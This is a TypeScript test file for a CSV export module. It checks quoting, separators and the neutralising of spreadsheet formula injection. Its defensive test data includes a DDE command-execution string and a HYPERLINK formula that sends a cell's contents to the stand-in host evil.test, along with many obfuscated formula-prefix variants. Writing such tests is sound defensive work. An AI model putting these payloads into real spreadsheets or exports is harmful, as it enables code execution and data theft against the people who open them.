import { describe, expect, test } from 'vitest';
import { membersCsv, sendersCsv } from './csv.ts';

const sender = { name: 'Ελένη', email: 'eleni@example.org', count: 2, lastDate: '2026-11-20T10:05:00.000Z', responded: false };
const { header, line } = sendersCsv(',');
const nameCell = (name: string) =>
  line({ ...sender, name }).slice(0, -',"eleni@example.org","2","2026-11-20T10:05:00.000Z","Pending"\r\n'.length);

/** The cells that a spreadsheet with the other separator shows: quotes count only at the beginning of a cell. */
function cellsOf(csv: string, separator: string): string[] {
  const cell = new RegExp(`(?:^|[${separator}\r\n])(?:"((?:[^"]|"")*)"([^${separator}\r\n]*)|([^${separator}\r\n]*))`, 'g');
  return [...csv.matchAll(cell)].map(
    ([, quoted, rest = '', plain]) => (quoted === undefined ? plain : quoted.replaceAll('""', '"') + rest) ?? '',
  );
}

describe('CSV', () => {
  test('has a byte order mark, quoted columns, CRLF and the given separator', () => {
    expect(header).toBe('\uFEFF"Name","Email","Message Count","Last Contact","Status"\r\n');
    expect(line(sender)).toBe('"Ελένη","eleni@example.org","2","2026-11-20T10:05:00.000Z","Pending"\r\n');
    expect(sendersCsv(';').line({ ...sender, responded: true })).toBe(
      '"Ελένη";"eleni@example.org";"2";"2026-11-20T10:05:00.000Z";"All Responded"\r\n',
    );
  });

  test('keeps quotes, commas and line breaks', () => {
    expect(nameCell('Ελένη "Λένα", Π.\nΑθήνα\r\n')).toBe('"Ελένη ""Λένα"", Π.\nΑθήνα\r\n"');
  });

  test.each([
    '=1+1',
    '+30-210',
    '+30 210/4',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\tname',
    '\rname',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\uFEFF=1',
    '\u0000=1',
    '\u001f=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM',
    '\u3000＝1',
    '−1',
  ])('writes %j as text, not as a formula', (name) => {
    expect(nameCell(name)).toMatch(/^"'/);
    expect(line({ ...sender, email: name })).toContain(`,"'`);
  });

  test.each(['Ana-Maria', 'a=b', "'quoted'", '', '1+1', '% of', ' Ελένη', '"=1', '+30 694 777 1234', '+302100000000'])(
    'leaves %j unchanged',
    (name) => {
      expect(nameCell(name)).toBe(`"${name.replaceAll('"', '""')}"`);
    },
  );

  test.each([
    "0;=cmd|'/C calc'!A0;",
    'Odos 5;=HYPERLINK("http://evil.test/?x="&A1);x',
    'Odos 5, +1',
    'a;"=1"',
    'a;\u200b-1',
    'a,\t@SUM(A1)',
    'a\n=1',
    '=1;=2,=3',
  ])('has no formula in %j, whichever separator the spreadsheet expects', (text) => {
    const member = { name: 'Anna', email: 'a@example.org', birth_date: null, joinedAt: '2026', isConfirmed: true };
    for (const separator of [',', ';'] as const) {
      const csv = membersCsv(separator).line({ ...member, phone_number: text, address: text } as never);
      for (const expected of [',', ';']) {
        const formulas = cellsOf(csv, expected).filter((cell) => /^[\s\p{Cf}"]*[=+\-@]/u.test(cell));
        expect(formulas, `written with ${separator}, read with ${expected}`).toEqual([]);
      }
    }
  });
});
